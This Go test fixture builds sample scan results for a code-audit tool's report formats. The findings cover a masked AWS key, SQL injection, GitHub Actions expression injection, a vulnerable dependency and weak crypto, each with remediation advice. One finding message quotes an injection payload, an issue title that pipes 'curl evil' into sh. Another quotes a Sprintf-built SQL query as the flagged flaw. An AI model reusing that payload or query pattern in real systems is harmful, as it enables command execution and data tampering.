package reporttest

import (
	"fmt"
	"time"

	"github.com/socyber/codeaudit/internal/finding"
	"github.com/socyber/codeaudit/internal/result"
	"github.com/socyber/codeaudit/internal/source"
)

// Started is the fixed start time of every sample scan.
var started = time.Date(2026, time.January, 15, 10, 0, 0, 0, time.UTC)

func rules() []finding.Rule {
	return []finding.Rule{
		{
			ID:          "secrets.aws-access-key",
			Title:       "AWS access key in source",
			Description: "An AWS access key id and secret are committed to the repository, where anyone with read access can use them.",
			Severity:    finding.Critical,
			Confidence:  finding.ConfidenceHigh,
			CWE:         "CWE-798",
			Remediation: "Revoke the key in the AWS console now, then load credentials from the environment or a secret manager.\n\nExample: `aws.Config{Credentials: credentials.NewEnvCredentials()}`",
			References:  []string{"https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"},
			Tags:        []string{"secret", "aws"},
			Analyzer:    "secrets",
		},
		{
			ID:          "go.sql.injection",
			Title:       "SQL query built from user input",
			Description: "User input reaches a SQL query string without parameters, so an attacker can change the query.",
			Severity:    finding.High,
			Confidence:  finding.ConfidenceHigh,
			CWE:         "CWE-89",
			Remediation: "Pass user input as query parameters instead of formatting it into the SQL text.\n\n```go\ndb.QueryContext(ctx, \"SELECT * FROM users WHERE name = $1\", name)\n```",
			References:  []string{"https://go.dev/doc/database/sql-injection", "https://owasp.org/www-community/attacks/SQL_Injection"},
			Analyzer:    "sast",
		},
		{
			ID:          "pipeline.gha.expression-injection",
			Title:       "Untrusted GitHub context expanded in a run script",
			Severity:    finding.High,
			Confidence:  finding.ConfidenceMedium,
			CWE:         "CWE-78",
			Remediation: "Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`.",
			References:  []string{"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"},
			Analyzer:    "pipeline",
		},
		{
			ID:               "deps.osv.vulnerable-package",
			Title:            "Dependency with a known vulnerability",
			Severity:         finding.Medium,
			Confidence:       finding.ConfidenceHigh,
			SecuritySeverity: 5.3,
			CWE:              "CWE-1395",
			Remediation:      "Upgrade the package to the fixed version named in the finding.",
			Analyzer:         "deps",
		},
		{
			ID:          "python.crypto.weak-hash",
			Title:       "Weak hash algorithm",
			Severity:    finding.Low,
			Confidence:  finding.ConfidenceMedium,
			CWE:         "CWE-328",
			Remediation: "Use SHA-256 or better: `hashlib.sha256(data)`; for passwords use a slow KDF such as argon2 or scrypt.",
			References:  []string{"https://docs.python.org/3/library/hashlib.html"},
			Analyzer:    "sast",
		},
		{
			ID:          "go.crypto.weak-random",
			Title:       "Non-cryptographic random number generator used for a secret",
			Severity:    finding.Medium,
			Confidence:  finding.ConfidenceMedium,
			CWE:         "CWE-338",
			Remediation: "Use crypto/rand for tokens, keys and nonces.",
			Analyzer:    "sast",
		},
		// models.hf.unpinned-revision is deliberately missing so formats
		// are tested on findings whose rule is not in Rules.
	}
}

func ruleByID(id string) *finding.Rule {
	for _, r := range rules() {
		if r.ID == id {
			return &r
		}
	}
	panic("reporttest: no rule " + id)
}

func loc(path string, line, col, endLine, endCol int) finding.Location {
	return finding.Location{Path: path, StartLine: line, StartColumn: col, EndLine: endLine, EndColumn: endCol}
}

func findings() []finding.Finding {
	aws := finding.New(ruleByID("secrets.aws-access-key"), loc("config/prod.env", 3, 19, 3, 39),
		`AWS access key id "AKIA…WXYZ" is committed in plain text`)
	aws.Snippet = &finding.Snippet{StartLine: 1, Lines: []string{
		"APP_ENV=production",
		"AWS_REGION=eu-west-1",
		"AWS_ACCESS_KEY_ID=AKIA****************",
		"AWS_SECRET_ACCESS_KEY=****************************************",
		"",
	}}
	aws.Fingerprint = "5f0c1a9e2b7d4c3e8a6f1b2c3d4e5f60"
	aws.Properties = map[string]string{"entropy": "4.31", "commit": "9b1e2f3a4c5d"}

	sqli := finding.New(ruleByID("go.sql.injection"), loc("internal/store/users.go", 42, 23, 42, 61),
		"the name query parameter reaches db.Query through fmt.Sprintf without parameters")
	sqli.Snippet = &finding.Snippet{StartLine: 40, Lines: []string{
		"func (s *Store) FindUser(ctx context.Context, name string) (*User, error) {",
		"\tq := fmt.Sprintf(\"SELECT id, email FROM users WHERE name = '%s'\", name)",
		"\trows, err := s.db.QueryContext(ctx, q)",
		"\tif err != nil {",
		"\t\treturn nil, fmt.Errorf(\"find user: %w\", err)",
	}}
	sqli.Trace = []finding.TraceStep{
		{Location: loc("internal/api/users.go", 18, 10, 18, 36), Note: "user input read from r.URL.Query().Get(\"name\")", Kind: "source"},
		{Location: loc("internal/api/users.go", 19, 2, 19, 41), Note: "passed to Store.FindUser as name", Kind: "propagation"},
		{Location: loc("internal/store/users.go", 41, 7, 41, 75), Note: "formatted into q by fmt.Sprintf", Kind: "propagation"},
		{Location: loc("internal/store/users.go", 42, 23, 42, 61), Note: "q executed by db.QueryContext", Kind: "sink"},
	}
	sqli.Fingerprint = "a1b2c3d4e5f60718293a4b5c6d7e8f90"

	gha := finding.New(ruleByID("pipeline.gha.expression-injection"), loc(".github/workflows/triage.yml", 21, 14, 21, 52),
		"${{ github.event.issue.title }} is expanded into a shell script; an issue title like `\"; curl evil | sh` runs commands")
	gha.Snippet = &finding.Snippet{StartLine: 19, Lines: []string{
		"      - name: Label",
		"        run: |",
		"          echo \"${{ github.event.issue.title }}\" | ./label.sh",
		"",
	}}
	gha.Fingerprint = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"

	dep := finding.New(ruleByID("deps.osv.vulnerable-package"), loc("go.mod", 7, 0, 7, 0),
		"golang.org/x/net v0.17.0 is affected by GHSA-4v7x-pqxf-cx7m (HTTP/2 rapid reset); fixed in v0.23.0")
	dep.SecuritySeverity = 7.5
	dep.Severity = finding.High
	dep.Properties = map[string]string{
		"advisory": "GHSA-4v7x-pqxf-cx7m",
		"aliases":  "CVE-2023-44487",
		"package":  "golang.org/x/net",
		"version":  "0.17.0",
		"fixed":    "0.23.0",
	}
	dep.Fingerprint = "77aa88bb99cc00dd11ee22ff33004411"

	md5 := finding.New(ruleByID("python.crypto.weak-hash"), loc("src/äpp/ハッシュ.py", 5, 12, 5, 35),
		"MD5 digest of the upload (données client) is used as an integrity check — collisions are cheap")
	md5.Snippet = &finding.Snippet{StartLine: 3, Lines: []string{
		"def digest(data: bytes) -> str:",
		"    \"\"\"Return the hex digest. Example: ``` md5 ``` <b>bold</b>\"\"\"",
		"    return hashlib.md5(data).hexdigest()  # ハッシュ",
		"",
	}}
	md5.Location.StartLine, md5.Location.EndLine = 5, 5
	md5.Fingerprint = "c0ffee00c0ffee00c0ffee00c0ffee00"

	hf := finding.Finding{
		RuleID:      "models.hf.unpinned-revision",
		Title:       "Model downloaded without a pinned revision",
		Message:     "from_pretrained(\"acme/sentiment\") has no revision=; a new push to the <main> branch | changes what runs #1 @team",
		Severity:    finding.Info,
		Confidence:  finding.ConfidenceLow,
		CWE:         "CWE-494",
		Location:    loc("ml/load.py", 9, 9, 9, 52),
		Remediation: "Pin `revision=` to a commit hash.",
		Analyzer:    "models",
		Fingerprint: "1234567890abcdef1234567890abcdef",
	}

	out := []finding.Finding{aws, gha, dep, sqli, md5, hf}
	for i := range out {
		out[i].Classify()
	}
	return out
}

// Sample returns a new realistic result. Each call returns a fresh value
// that callers may modify.
func Sample() *result.Result {
	fs := findings()
	rnd := finding.New(ruleByID("go.crypto.weak-random"), loc("internal/token/token.go", 12, 9, 12, 27),
		"math/rand.Int63 generates a session token")
	rnd.Fingerprint = "deadbeefdeadbeefdeadbeefdeadbeef"
	rnd.Suppression = &finding.Suppression{Kind: "inline", Reason: "test fixture only, not a real token", Source: "internal/token/token.go:11"}
	rnd.Classify()
	base := finding.New(ruleByID("python.crypto.weak-hash"), loc("scripts/cache_key.py", 3, 8, 3, 30),
		"MD5 used as a cache key")
	base.Fingerprint = "beefcafebeefcafebeefcafebeefcafe"
	base.Suppression = &finding.Suppression{Kind: "baseline", Reason: "accepted in baseline"}
	base.Classify()

	r := &result.Result{
		SchemaVersion: result.SchemaVersion,
		Tool:          result.Tool{Name: "codeaudit", Version: "1.4.0"},
		Target:        "./shop",
		StartedAt:     started,
		FinishedAt:    started.Add(3250 * time.Millisecond),
		Scanners:      []string{"sast", "secrets", "deps", "pipeline", "models"},
		Findings:      fs,
		Suppressed:    []finding.Finding{rnd, base},
		Warnings: []result.Warning{
			{Path: "web/static/app.bundle.js", Analyzer: "sast", Message: "parse timed out after 5s"},
		},
		Stats: result.Stats{
			FilesScanned: 128,
			FilesSkipped: map[source.SkipReason]int{source.SkipVendored: 40, source.SkipBinary: 3},
			Languages: map[source.Language]result.Lines{
				source.Go:     {Files: 90, Code: 12000, Comment: 1500, Blank: 2100},
				source.Python: {Files: 30, Code: 3400, Comment: 200, Blank: 500},
				source.YAML:   {Files: 8, Code: 345, Blank: 20},
			},
			LinesOfCode: 15745,
			DurationMS:  3250,
		},
		Rules: rules(),
		DataSources: []result.DataSource{
			{Name: "osv/Go", Analyzer: "deps", FetchedAt: time.Date(2026, 11, 18, 6, 0, 0, 0, time.UTC), AgeDays: 7},
		},
	}
	r.Stats.BySeverity = r.Counts()
	return r
}

// Empty returns a result of a clean scan: no findings, warnings or rules.
func Empty() *result.Result {
	return &result.Result{
		SchemaVersion: result.SchemaVersion,
		Tool:          result.Tool{Name: "codeaudit", Version: "1.4.0"},
		Target:        ".",
		StartedAt:     started,
		FinishedAt:    started.Add(120 * time.Millisecond),
		Scanners:      []string{"sast"},
		Findings:      []finding.Finding{},
		Stats: result.Stats{
			FilesScanned: 3,
			LinesOfCode:  80,
			DurationMS:   120,
			BySeverity:   map[finding.Severity]int{},
		},
	}
}

// Many returns a result with n generated findings spread over every
// severity, for size-limit tests and benchmarks.
func Many(n int) *result.Result {
	r := Sample()
	tmpl := r.Findings
	r.Findings = make([]finding.Finding, 0, n)
	for i := range n {
		f := tmpl[i%len(tmpl)]
		f.Location.Path = fmt.Sprintf("pkg/mod%03d/file%04d.go", i%97, i)
		f.Location.StartLine = 10 + i%500
		f.Location.EndLine = f.Location.StartLine
		f.Fingerprint = fmt.Sprintf("%032x", i)
		r.Findings = append(r.Findings, f)
	}
	r.Stats.BySeverity = r.Counts()
	return r
}
